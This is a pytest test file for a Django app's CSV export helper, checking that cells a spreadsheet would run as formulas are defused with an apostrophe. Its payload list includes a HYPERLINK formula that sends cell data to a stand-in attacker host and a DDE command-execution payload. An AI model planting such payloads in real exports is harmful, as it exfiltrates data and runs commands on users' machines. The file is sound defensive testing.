"""Every CSV cell that a spreadsheet would run as a formula is written as text."""

import csv
import io

import pytest
from django.core.management import call_command

from assessments.bulk import csv as safe_csv
from assessments.models import Organisation
from tests.factories import make_response, make_round, make_user

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_prefixed_with_an_apostrophe(payload):
    assert safe_csv.safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", [0, -2, 3.25, -1.5, "Acme GmbH", "ann@acme.test", "2+3", "a=b"]
)
def test_numbers_and_plain_text_are_unchanged(value):
    assert safe_csv.safe_cell(value) == value


def test_none_and_lists_become_cells():
    assert safe_csv.safe_cell(None) == ""
    assert safe_csv.safe_cell(["diag-1", "diag-2"]) == "diag-1;diag-2"
    assert safe_csv.safe_cell(["=cmd", "x"]) == "'=cmd;x"


def test_write_rows_reads_mappings_by_column_and_sequences_in_order():
    out = io.StringIO()
    safe_csv.write_rows(
        out, ["name", "x"], [{"name": "@SUM(1,1)", "x": -1.5}, ["b", 2]]
    )
    assert out.getvalue() == 'name,x\n"\'@SUM(1,1)",-1.5\nb,2\n'


def test_csv_response_is_a_download():
    response = safe_csv.csv_response("r.csv", ["a"], [["=1"]])
    assert response["Content-Disposition"] == 'attachment; filename="r.csv"'
    assert response.content.decode() == "a\n'=1\n"


@pytest.mark.django_db
@pytest.mark.parametrize("rounds", [False, True])
def test_export_results_defuses_names_and_emails_and_keeps_numbers(rounds):
    for number, payload in enumerate(PAYLOADS[:4]):
        organisation = Organisation.objects.create(name=payload, revenue_team_size=5)
        user = make_user(email=f"{payload}{number}@x.test", username=f"u{number}")
        make_response(
            round=make_round(organisation=organisation), respondent=user, submitted=True
        )
    out = io.StringIO()
    call_command(
        "export_results",
        "--format",
        "csv",
        *(["--rounds"] if rounds else []),
        stdout=out,
    )
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert sorted(row["organisation"] for row in rows) == sorted(
        "'" + payload for payload in PAYLOADS[:4]
    )
    for row in rows:
        if not rounds:
            assert row["respondent"].startswith("'")
        # Numbers stay numbers: no apostrophe, parseable.
        assert float(row["x"]) == pytest.approx(2.0)
        assert not row["year"].startswith("'")
    assert all(
        not cell.startswith("'")
        for row in rows
        for key, cell in row.items()
        if key not in ("organisation", "respondent")
    )
